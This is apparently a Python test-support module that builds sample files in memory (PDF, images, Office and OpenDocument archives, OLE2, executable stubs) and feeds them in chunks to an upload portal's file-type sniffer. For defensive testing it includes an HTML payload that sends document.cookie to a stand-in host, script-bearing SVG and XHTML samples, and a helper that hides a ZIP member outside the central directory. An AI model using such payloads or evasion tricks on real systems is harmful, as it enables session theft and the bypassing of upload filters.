"""Files to check, built in memory, and the helpers that feed them to a sniffer."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from portal.filecheck import SniffResult, TypeSniffer
from tests.support.pdf import make_pdf

MiB = 1024 * 1024


# --- building files --------------------------------------------------------------------

# A real PDF: a PDF member of an archive is parsed for active content as a PDF alone is.
PDF = make_pdf()
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(1000)
TIFF_LE = b"II*\x00\x08\x00\x00\x00" + bytes(range(256)) * 4
TIFF_BE = b"MM\x00*\x00\x00\x00\x08" + bytes(range(256)) * 4
CSV_UTF8 = "\ufeffnom;prénom;montant\nDupont;Zoé;12,50\n".encode()
CSV_CP1252 = "nom;prénom;montant\nDupont;Zoé;12,50 €\n".encode("cp1252")
TXT = b"Compte rendu de la reunion du 3 mars.\r\nRien a signaler.\r\n"
XML_LATIN1 = (
    b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    b"<!-- flux CGPEM -->\n<flux><ligne>\xe9t\xe9</ligne></flux>\n"
)
XML_BOM = b'\xef\xbb\xbf \n\t<?xml version="1.0"?>\n<racine a="1"/>\n'
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>'
XHTML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="x()"/></html>'
)
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types '
    b'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def png() -> bytes:
    """A real 1×1 grey PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + chunk(b"IEND", b"")
    )


def zip_of(*members: tuple[str | zipfile.ZipInfo, bytes], stored: bool = False) -> bytes:
    """An archive made by Python's zipfile, in memory."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(*extra: tuple[str, bytes]) -> bytes:
    return zip_of(
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", b"<w:document/>"),
        *extra,
    )


def xlsx(*extra: tuple[str, bytes]) -> bytes:
    return zip_of(
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", b"<Relationships/>"),
        ("xl/workbook.xml", b"<workbook/>"),
        ("xl/worksheets/sheet1.xml", b"<worksheet/>"),
        *extra,
    )


def pptx() -> bytes:
    return zip_of(
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", b"<Relationships/>"),
        ("ppt/presentation.xml", b"<p:presentation/>"),
    )


def odf(kind: str, *extra: tuple[str, bytes]) -> bytes:
    """An OpenDocument file: `mimetype` first and stored, as the specification requires."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>", zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", b"<manifest:manifest/>", zipfile.ZIP_DEFLATED)
        for name, data in extra:
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def plain_zip() -> bytes:
    return zip_of(
        ("courriers/lettre.pdf", PDF),
        ("courriers/", b""),
        ("tableaux/suivi.csv", CSV_UTF8),
        ("scans/page1.JPG", JPEG),
        ("scans/page2.tiff", TIFF_LE),
        ("notes.txt", TXT),
        ("flux.xml", XML_LATIN1),
        ("rapport.docx", docx()),
    )


# A Windows executable: DOS header whose e_lfanew (0x3C) points at the "PE" signature.
MZ_PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(0x3C - 16)
    + struct.pack("<I", 0x40)
    + b"PE\x00\x00\x4c\x01"
    + bytes(200)
)
HTML_SCRIPT = b"<html><body><script>fetch('//x/?c='+document.cookie)</script></body></html>"
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


class Unseekable(io.RawIOBase):
    """A sink zipfile cannot seek back in: it writes data descriptors after each member."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: bytes) -> int:  # type: ignore[override] # bytes are all it gets
        self.data += b
        return len(b)


def streamed_zip(
    *members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED, zip64: bool = False
) -> bytes:
    """An archive written as a stream (data descriptors), as by a web export or `zip -`."""
    sink = Unseekable()
    with zipfile.ZipFile(sink, "w", compression=compression) as archive:
        for name, data in members:
            with archive.open(name, "w", force_zip64=zip64) as member:
                member.write(data)
    return bytes(sink.data)


def zip_with(compression: int, *members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def with_hidden_member(data: bytes, name: str, content: bytes) -> bytes:
    """Insert a stored member after the last one, left out of the central directory."""
    directory = data.index(b"PK\x01\x02")
    size = len(content)
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(content), size, size, len(name), 0
    )
    hidden = local + name.encode() + content
    eocd = data.rindex(b"PK\x05\x06")
    end = bytearray(data[eocd:])
    struct.pack_into("<I", end, 16, directory + len(hidden))  # where the directory now starts
    return data[:directory] + hidden + data[directory:eocd] + bytes(end)


def ole2(*names: str, padding: int = 0) -> bytes:
    """An OLE2 (Office 97-2003) file whose directory holds `names`, after `padding` sectors."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 0x30, padding)  # first directory sector
    directory = bytearray()
    for name in ("Root Entry", *names):
        entry = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        entry[: len(encoded)] = encoded
        struct.pack_into("<HB", entry, 64, len(encoded), 5 if name == "Root Entry" else 2)
        directory += entry
    directory += bytes(-len(directory) % 512)
    filler = bytes(range(256)) * 2 * padding
    return bytes(header) + filler + bytes(directory) + bytes(range(256)) * 8


def patch_central(data: bytes, index: int, offset: int, value: bytes) -> bytes:
    """Overwrite bytes at `offset` of the `index`-th central directory entry."""
    at = -1
    for _ in range(index + 1):
        at = data.index(b"PK\x01\x02", at + 1)
    return data[: at + offset] + value + data[at + offset + len(value) :]


def set_encrypted_flag(data: bytes) -> bytes:
    """Set general purpose bit 0 in the first local header and central directory entry."""
    local = bytearray(data)
    local[6] |= 0x01
    central = data.index(b"PK\x01\x02")
    local[central + 8] |= 0x01
    return bytes(local)


def chunks_of(data: bytes, chunking: str, seed: int = 7) -> Iterator[bytes]:
    """Split `data` whole, byte by byte, or in random sizes (some of them a single byte)."""
    if chunking == "whole":
        yield data
        return
    if chunking == "bytes":
        for at in range(len(data)):
            yield data[at : at + 1]
        return
    rng = random.Random(seed)
    at = 0
    while at < len(data):
        size = rng.choice((1, 1, 2, 3, 7, 64, 511, 4096, 65_537, rng.randint(1, 300_000)))
        yield data[at : at + size]
        at += size


def check(name: str, data: bytes, chunking: str = "random", **options: int) -> SniffResult:
    """Feed every chunk, then decide (no early stop, so the whole path runs)."""
    sniffer = TypeSniffer(name, **options)
    for chunk in chunks_of(data, chunking):
        sniffer.feed(chunk)
    return sniffer.finish()


CHUNKINGS = ["whole", "bytes", "random"]
